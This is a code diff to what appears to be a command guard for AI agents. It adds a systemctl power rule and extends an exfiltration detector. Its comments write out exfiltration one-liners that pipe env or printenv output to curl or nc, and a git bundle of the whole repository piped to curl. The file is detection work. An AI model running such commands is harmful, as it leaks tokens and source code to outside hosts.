@@ -60,6 +60,10 @@ def _service(judge: Scope, call: Call) -> Verdict | None:
         return judge.verdict(
             "persistence", "ask", f"{call.name} {words[0]} installs a service that outlives the session"
         )
+    if call.name == "systemctl":  # `systemctl reboot` is `reboot`
+        from agentops_os.guard.rules_power import systemctl_power
+
+        return systemctl_power(judge, call)
     return None
 
 
@@ -373,12 +377,15 @@ _ENV_DUMPS = frozenset({"env", "printenv", "set", "export", "declare"})
 def exfiltration(judge: Scope, call: Call) -> Verdict | None:
     """`env | curl --data-binary @- …`, `printenv | nc host 80`, `curl -d "$(env)" …`: the
     whole environment (tokens included) sent over the network."""
-    for command in [*call.upstream, *_sub_commands(call)]:  # `-d "$(env)"`, `--data @<(printenv)`
+    commands = [*call.upstream, *_sub_commands(call)]
+    for command in commands:  # `-d "$(env)"`, `--data @<(printenv)`
         if command.words and command.words[0].text.rsplit("/", 1)[-1] in _ENV_DUMPS:
             source = command.words[0].text  # e.g. env
             reason = f"{call.name} sends the output of {source}, every token in the environment, out"
             return judge.verdict("exfiltration", "ask", reason)
-    return None
+    from agentops_os.guard.repoexport import piped_archive  # `git bundle create - --all | curl -T - URL`
+
+    return piped_archive(judge, call.name, commands)
 
 
 
